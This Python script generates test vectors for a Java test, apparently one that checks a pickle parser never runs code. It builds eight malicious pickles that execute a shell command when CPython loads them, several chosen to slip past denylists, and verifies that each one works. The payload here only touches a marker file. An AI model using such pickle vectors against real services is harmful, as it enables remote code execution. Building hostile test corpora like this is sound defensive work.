"""Pickles that run a command under CPython's pickle.load, for HostilePickleTest.

Each one is first built with a marker path in a scratch folder and loaded by CPython in a child process, and kept
only if the marker appeared (so every vector is known to execute); then it is written to code-running.txt with the
placeholder path /tmp/landscape-probe-pwned, which the Java test checks is never created.

    python3 make_vectors.py > code-running.txt   (CPython 3.11, PyYAML 6 for yaml_unsafe_load)
"""
import os
import struct
import subprocess
import sys
import tempfile


def su(text):  # SHORT_BINUNICODE
    b = text.encode()
    assert len(b) < 256
    return b'\x8c' + bytes([len(b)]) + b


def stack_global(module, name):  # protocol 4: module and dotted name pushed as strings, then STACK_GLOBAL
    return su(module) + su(name) + b'\x93'


def call(fn, *args):  # fn(*args) with MARK ... TUPLE REDUCE
    return fn + b'(' + b''.join(args) + b'tR'


def binunicode(text):
    b = text.encode()
    return b'X' + struct.pack('<I', len(b)) + b


P4 = b'\x80\x04'


def vectors(marker):
    sh = 'touch ' + marker
    py = "__import__('os').system(%r)" % sh
    return {
        # dotted names: the module is harmless, the attribute path reaches os / builtins
        'shlex_os_spawnlp': P4 + call(stack_global('shlex', 'os.spawnlp'), b'K\x00', su('sh'), su('sh'), su('-c'),
                                      su(sh)) + b'.',
        'collections_abc_builtins_get_eval': P4 + call(call(stack_global('collections', 'abc.__builtins__.get'),
                                                            su('eval')), su(py)) + b'.',
        # modules no denylist thought of
        'pydoc_pipepager': P4 + call(stack_global('pydoc', 'pipepager'), su(''), su(sh)) + b'.',
        'yaml_unsafe_load': P4 + call(stack_global('yaml', 'unsafe_load'),
                                      su('!!python/object/apply:os.system [%r]' % sh)) + b'.',
        'timeit_timeit': P4 + call(stack_global('timeit', 'timeit'), su('pass'), su(py)) + b'.',
        'cprofile_run': P4 + call(stack_global('cProfile', 'run'), su(py)) + b'.',
        # the classics, protocol 2 GLOBAL
        'posix_system': b'\x80\x02cposix\nsystem\n(' + binunicode(sh) + b'tR.',
        'builtins_exec': b'\x80\x02cbuiltins\nexec\n(' + binunicode(py) + b'tR.',
    }


with tempfile.TemporaryDirectory() as scratch:
    for name in vectors('x'):
        marker = os.path.join(scratch, name)
        subprocess.run([sys.executable, '-c', 'import pickle, sys; pickle.loads(sys.stdin.buffer.read())'],
                       input=vectors(marker)[name], capture_output=True, cwd=scratch, timeout=30)
        if not os.path.exists(marker):
            sys.exit(name + ' did not run its command under CPython; not written')
        print(name, vectors('/tmp/landscape-probe-pwned')[name].hex())
